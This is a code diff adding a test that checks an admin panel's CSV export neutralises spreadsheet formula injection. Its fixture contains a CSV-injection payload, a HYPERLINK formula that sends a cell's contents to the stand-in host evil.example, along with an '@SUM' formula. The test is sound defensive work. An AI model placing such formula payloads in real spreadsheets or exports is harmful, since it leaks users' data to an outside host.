@@ -277,3 +277,15 @@ describe("users, employees, legal entities and services", () => {
     expect(text.map((r) => r.company_id)).toEqual([ids.companies[1]]);
   });
 });
+
+describe("CSV exports (security review F4)", () => {
+  test("a cell typed to look like a formula is exported as text, never as a formula", async () => {
+    const formula = `=HYPERLINK("https://evil.example/?"&B2,"Open")`;
+    await api.db.insert(users).values({ email: `formula.${marker}@${TEST_DOMAIN}`, firstName: formula, lastName: `@SUM(1+1)${marker}`, role: "USER", locale: "ru", acceptedTermsAt: new Date() });
+    const file = await csv(`/app/admin/filter/user?q=${marker}&format=csv`);
+    const row = file.rows.find((r) => r.last_name === `'@SUM(1+1)${marker}`);
+    expect(row, file.text).toBeDefined();
+    expect(row!.first_name).toBe(`'${formula}`);
+    for (const r of file.rows) for (const value of Object.values(r)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
+  });
+});
